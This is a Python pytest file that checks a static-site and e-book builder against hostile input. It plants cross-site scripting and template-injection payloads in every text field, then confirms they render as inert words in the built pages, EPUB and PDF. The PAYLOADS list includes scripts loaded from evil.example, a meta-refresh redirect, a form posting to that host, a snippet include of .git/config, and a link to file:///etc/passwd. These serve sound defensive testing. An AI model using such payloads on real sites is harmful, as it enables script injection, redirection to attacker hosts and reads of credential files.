"""Hostile content, in every text of every kind of entry: it comes out as it was typed, and does nothing.

The tiny project is built with payloads everywhere; its pages are opened in a real browser, its books are opened too.
"""

from __future__ import annotations

import io
import itertools
import json
import pathlib
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pikepdf
import pytest
import yaml
from playwright.sync_api import Page, sync_playwright

from macros.book.xhtml import read_document, text_of
from macros.leaf import leaves
from macros.model import Comment
from macros.reading import examine, read_library
from tests.browser import ARGUMENTS, chromium, pages_of, served
from tests.projects import TINY, Built, build, clone, edit

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    '"><script src=https://evil.example/x.js></script>',
    "&lt;/title&gt;&lt;script&gt;alert(4)&lt;/script&gt;",
    "</p></div></article><script>alert(5)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><button>x",
    "<details><pre><!-- <textarea>",
    "<a href=javascript:alert(6)>x</a>",
    "A {: onclick=alert(7) style=position:fixed #search }",
    "{{ 7*7 }} {{ config }} {{ macros_info() }}",
    "{% raw %} {% del x %} {# note #}",
    '--8<-- ".git/config"',
    'a" onmouseover="alert(8)',
    "' autofocus onfocus='alert(9)",
    "{{ cycler }} ${alert(10)} #{x} [TOC] *[x]: y ~~z~~ ==w==",
)
STRANGERS = (
    "article :is(script:not([type=module][src*='assets/']), iframe, base, meta,"
    " form:not(.contribution > form, #problem-paste), svg:not(.drawn), img), #search"
)
"""What no page has of its own: scripts that are not the site's modules, forms that are not its two."""
TEXTS = frozenset({
    "title", "label", "summary", "body", "text", "reason", "value", "how", "who", "tools", "advice", "protocol",
    "signals", "blunders", "move_on", "practice", "reversed", "remedies", "steps", "lessons", "why", "evidence",
    "reading", "definition", "synonyms", "uncited", "name", "subtitle", "role", "colophon",
})  # fmt: skip
"""Fields whose words readers see."""


@dataclass(frozen=True)
class Attacked:
    """The tiny project built with payloads in it."""

    built: Built
    planted: int
    """How many texts carry a payload."""


def poison(folder: pathlib.Path, payloads: Iterator[str]) -> int:
    """Add payloads to every text of every entry and of the book; the number of texts."""
    library = read_library(folder)
    values: dict[str, object] = {item.document.file: item.value for item in library.items.values()}
    values["content/book.yml"] = library.book
    planted = 0
    for name, value in values.items():
        file = folder / name
        data = yaml.load(file.read_text(encoding="utf-8"), yaml.BaseLoader)
        # An unsigned comment that leads to a page is refused before anything is built (MB175).
        unsigned = isinstance(value, Comment) and value.signature.form == "anonymous"
        fit = (payload for payload in payloads if not (unsigned and "https://" in payload))
        for leaf in leaves(value):
            words = [step for step in leaf.path if isinstance(step, str)]
            if leaf.target is None and words and words[-1] in TEXTS:
                end = "".join(f"\n\n{next(fit)}" for _ in range(3)) if leaf.is_prose else f" {next(fit)}"
                _add(data, leaf.path, end)
                planted += 1
        file.write_text(json.dumps(data, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    return planted


def _add(data: Any, path: tuple[str | int, ...], end: str) -> None:
    for step in path[:-1]:
        data = data[step]
    data[path[-1]] += end


@pytest.fixture(scope="module")
def attacked(snapshot: pathlib.Path, tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    """The tiny project, poisoned and built."""
    home = clone(tmp_path_factory.mktemp("attacked"), snapshot)
    planted = poison(home / TINY, itertools.cycle(PAYLOADS))
    built = build(home, TINY)
    assert built.code == 0, built.said
    return Attacked(built, planted)


def level(text: str) -> str:
    """A text with all spaces and kinds of quotation marks made equal: those are typography, not safety."""
    return " ".join(re.sub("[’‘]", "'", re.sub("[«»“”]", '"', text)).split())


def test_payloads_stay_the_words_they_are(attacked: Attacked) -> None:
    site = attacked.built.site
    pages = [read_document((site / name).read_text("utf-8")) for name in pages_of(site)]
    shown = level(" ".join(text_of(article) for page in pages for article in page.iter("article")))
    assert attacked.planted > 100
    assert {payload: shown.count(level(payload)) for payload in PAYLOADS if shown.count(level(payload)) < 5} == {}


def test_payloads_do_nothing_in_a_browser(attacked: Attacked, capsys: pytest.CaptureFixture[str]) -> None:
    done: list[str] = []
    with served(attacked.built.site) as origin, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium(), args=ARGUMENTS)
        page = browser.new_page()
        listen(page, origin, done)
        for name in pages_of(attacked.built.site):
            page.goto(origin + name)
            if 'http-equiv="refresh"' in (attacked.built.site / name).read_text(encoding="utf-8"):
                page.wait_for_url(lambda url, left=origin + name: url != left)  # type: ignore[misc]
            page.mouse.move(400, 300)
            assert page.locator(STRANGERS).count() == 0
        browser.close()
    with capsys.disabled():
        print(f"\n{attacked.planted} poisoned texts, {len(pages_of(attacked.built.site))} pages opened")
    assert done == []


def listen(page: Page, origin: str, done: list[str]) -> None:
    """Write down whatever a payload could bring about."""

    def dismiss(dialog: Any) -> None:
        done.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("console", lambda line: done.append(line.text) if line.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: done.append(str(error)))
    page.on("request", lambda request: None if request.url.startswith((origin, "data:")) else done.append(request.url))


def test_no_address_of_an_attacker_becomes_a_link_of_the_site(attacked: Attacked) -> None:
    for name in pages_of(attacked.built.site):
        page = read_document((attacked.built.site / name).read_text("utf-8"))
        for element in page.iter():
            assert not [key for key, _ in element.items() if key.startswith("on")], name
            for key in ("href", "src", "action"):
                assert urlsplit(element.get(key, "")).hostname != "evil.example", name


def test_the_epub_has_no_script_no_handler_and_no_stranger(attacked: Attacked) -> None:
    with zipfile.ZipFile(io.BytesIO(attacked.built.book(".epub").read_bytes())) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    pages = [ElementTree.fromstring(content) for name, content in files.items() if name.endswith(".xhtml")]
    assert pages
    for element in (element for page in pages for element in page.iter()):
        assert element.tag.rpartition("}")[2] not in ("script", "iframe", "form", "base", "object", "style")
        assert not [key for key, _ in element.items() if key.startswith("on") or key == "style"]
        for key in ("href", "src"):
            address = urlsplit(element.get(key, ""))
            assert address.hostname != "evil.example" and address.scheme in ("", "http", "https", "mailto")


def test_the_pdf_has_no_action_but_links(attacked: Attacked) -> None:
    with pikepdf.open(attacked.built.book(".pdf")) as document:
        assert "/OpenAction" not in document.Root and "/AA" not in document.Root
        assert "/JavaScript" not in document.Root.get("/Names", {})
        assert sorted(document.attachments) == ["CITATION.cff", "contents-2026.1.zip"]
        for page in document.pages:
            for annotation in page.get("/Annots", []):
                if "/A" in annotation:
                    assert annotation.A.S == "/URI"
                    address = urlsplit(str(annotation.A.URI))
                    assert address.scheme in ("http", "https", "mailto") and address.hostname != "evil.example"


REFUSED = {
    "a link that runs a script": ("MB096", "[x](javascript:alert(1))"),
    "the same, written with entities": ("MB096", "[x](java&#115;cript:alert(1))"),
    "a link to data": ("MB096", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    "a link to a file": ("MB096", "[x](file:///etc/passwd)"),
    "a link to a shared folder": ("MB096", "[x](smb://evil.example/x)"),
    "a link that opens a program": ("MB096", "[x](ms-word:ofe|u|https://evil.example/x.docx)"),
    "an answer of the author": ("MB097", "Bene.\n\n## Risposta dell’autore\n\nHa ragione."),
    "a word written backwards": ("MB100", "Scrivi a \u202eoiziti\u202c."),
    "an invisible letter": ("MB100", "pass\u200bword"),
}


@pytest.mark.parametrize(("code", "text"), REFUSED.values(), ids=REFUSED.keys())
def test_some_texts_are_refused_with_a_message(
    code: str, text: str, tmp_path: pathlib.Path, snapshot: pathlib.Path
) -> None:
    home = clone(tmp_path / "clone", snapshot)
    block = "text: |\n" + "".join(f"  {line}\n" if line else "\n" for line in text.split("\n"))
    file = home / TINY / "content" / "commentary" / "carla-tempo.yml"
    edit(file, 'text: "Ten minutes is exactly what I have."\n', block)
    _, problems = examine(home / TINY)
    assert {problem.code for problem in problems} == {code}
    assert {problem.place.file for problem in problems} == {"content/commentary/carla-tempo.yml"}


@pytest.mark.parametrize("name", ["con", "aux", "nul", "prn", "com1", "lpt9"])
def test_a_name_that_windows_cannot_open_is_refused_with_one_that_it_can(
    name: str, tmp_path: pathlib.Path, snapshot: pathlib.Path
) -> None:
    """Whoever clones the project on Windows would get no files at all."""
    home = clone(tmp_path / "clone", snapshot)
    comments = home / TINY / "content" / "commentary"
    (comments / f"{name}.yml").write_bytes((comments / "non-perdona.yml").read_bytes())
    edit(home / TINY / "content" / "book.yml", "id: bake-it-or-buy-it", f"id: {name}")
    _, problems = examine(home / TINY)
    assert [(one.place.file, one.code) for one in problems] == [
        ("content/book.yml", "MB076"),
        (f"content/commentary/{name}.yml", "MB076"),
    ]
    assert problems[1].values["proposal"] == f"{name}-2.yml"


def test_the_book_has_a_title_that_no_browser_runs(attacked: Attacked) -> None:
    """The theme un-escapes titles where it can: an escaped tag would come alive in the head of every page."""
    head = (attacked.built.site / "index.html").read_text("utf-8").partition("</head>")[0]
    assert not re.search(r"<script>alert|<img|<svg|<base|http-equiv=refresh", head)
